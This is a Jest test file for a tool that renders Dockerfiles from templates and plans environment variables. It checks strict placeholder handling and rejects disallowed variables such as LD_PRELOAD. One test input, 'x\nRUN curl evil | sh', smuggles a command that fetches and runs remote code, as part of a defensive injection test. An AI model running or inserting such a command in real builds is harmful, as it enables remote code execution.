import { describe, expect, it } from '@jest/globals';
import { renderTemplate, TemplateError } from '../../../src/core/dockerfile/template.js';
import { planEnvironment } from '../../../src/core/dockerfile/plan.js';
import type { BaseChoice } from '../../../src/core/dockerfile/base-image.js';
import { makeSnapshot } from '../../helpers/snapshot-fixture.js';

const cpuBase: BaseChoice = {
  image: 'python:3.11.7-slim-bookworm',
  digest: null,
  family: 'python',
  target: 'cpu',
  pythonFrom: 'base',
  cuda: null,
  extraIndexUrls: [],
  reasons: [],
  warnings: [],
  notGuaranteed: [],
};

describe('renderTemplate', () => {
  it('fills placeholders and drops lines whose block is empty', () => {
    expect(renderTemplate('FROM {{image}}\n{{block}}\nRUN x', { image: 'a:b', block: '' })).toBe('FROM a:b\nRUN x');
    expect(renderTemplate('A\n{{block}}\nB', { block: 'one\ntwo' })).toBe('A\none\ntwo\nB');
  });

  it('is strict about missing and unused values', () => {
    expect(() => renderTemplate('{{a}} {{b}}', { a: '1' })).toThrow(/no value for \{\{b\}\}/);
    expect(() => renderTemplate('{{a}}', { a: '1', c: '2' })).toThrow(/without a placeholder: c/);
  });

  it('never lets a value inside a line break out of it', () => {
    for (const value of ['x\nRUN curl evil | sh', 'x\rRUN y', 'x\u2028RUN y']) {
      expect(() => renderTemplate('# reason: {{reason}}', { reason: value })).toThrow(TemplateError);
    }
  });
});

describe('planEnvironment', () => {
  it('bakes in allowlisted captured variables, minus host-only ones, plus the recipe', () => {
    const snapshot = makeSnapshot();
    snapshot.determinism.env = { PYTHONHASHSEED: '0', CUDA_VISIBLE_DEVICES: '1', KERAS_HOME: '/home/José/.keras' };
    const { env, warnings } = planEnvironment(snapshot, cpuBase);
    expect(env.map((e) => [e.name, e.value])).toEqual([['PYTHONHASHSEED', '0']]);
    expect(warnings).toEqual([]);
  });

  it('refuses a variable that capture never records, however it is spelled', () => {
    for (const name of ['LD_PRELOAD', 'HTTPS_PROXY', 'PYTHONPATH']) {
      const snapshot = makeSnapshot();
      snapshot.determinism.env = { [name]: '/tmp/x' };
      expect(() => planEnvironment(snapshot, cpuBase)).toThrow(new RegExp(`determinism\\.env\\.${name}: "${name}" is not a variable snapshot records`));
    }
  });
});
